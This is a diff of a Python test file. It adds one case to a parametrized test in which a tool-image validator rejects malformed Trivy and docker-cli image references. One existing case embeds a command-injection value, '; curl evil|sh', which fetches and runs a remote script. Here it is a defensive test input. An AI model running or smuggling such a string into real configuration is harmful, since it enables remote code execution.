@@ -380,6 +380,7 @@ def test_a_bump_of_a_spec_tool_image_is_not_adopted(repo):
     ("{trivy: 'registry.example.com/aquasec/trivy@sha256:%s'}" % ("a" * 64), "GC178", "$.tool_images.trivy", "no tag"),
     ("{trivy: 'aquasec/trivy:0.75.0@sha256:%s'}" % ("A" * 64), "GC178", "$.tool_images.trivy", "64 lower-case hex"),
     ("{trivy: 'aquasec/trivy:0.75.0@sha256:%s; curl evil|sh'}" % ("a" * 64), "GC178", "$.tool_images.trivy", "not host/path:tag"),
+    ("{trivy: '[::1]:5000/aquasec/trivy:0.75.0@sha256:%s'}" % ("a" * 64), "GC178", "$.tool_images.trivy", "not host/path:tag"),
     ("{docker-cli: 'docker:29.9.0-cli@sha256:%s'}" % ("a" * 64), "GC179", "$.tool_images.docker-cli", "docker.version with docker.dind_digest and docker.cli_digest"),
 ])
 def test_bad_tool_images_are_located_errors(cli, write_spec, tool_images, code, where, words):
